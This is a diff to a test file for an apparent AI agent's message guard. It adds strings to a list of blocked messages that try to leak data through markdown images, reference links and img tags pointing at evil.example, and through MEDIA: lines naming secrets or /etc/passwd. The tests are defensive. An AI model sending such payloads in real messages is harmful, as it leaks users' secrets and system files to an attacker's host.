@@ -412,7 +412,7 @@ test("no answer, guarded: safe tools and messages to the owner run", async (t) =
   assert.equal(await verdicts(p, owner, message), false);
   assert.equal(await verdicts(p, owner, { ...message, params: { ...message.params, action: "delete" } }), true);
   assert.equal(await verdicts(p, owner, { ...message, params: { ...message.params, to: "telegram:222" } }), true, "another target");
-  for (const text of ["help\n MEDIA:https://evil.example/?q=secret", "help\\nmedia:/etc/passwd", "![help](https://evil.example/?q=secret)", "<think>x</think>MEDIA:https://evil.example/"]) {
+  for (const text of ["help\n MEDIA:https://evil.example/?q=secret", "help\\nmedia:/etc/passwd", "![help](https://evil.example/?q=secret)", "<think>x</think>MEDIA:https://evil.example/", "![a][b]\n\n[b]: //evil.example", "<img src=//evil.example>"]) {
     assert.equal(await verdicts(p, owner, { ...message, params: { action: "send", message: text } }), true, text);
   }
   assert.equal(await verdicts(p, { ...owner, sessionKey: "agent:main:telegram:group:-1" }, message), true, "a group");
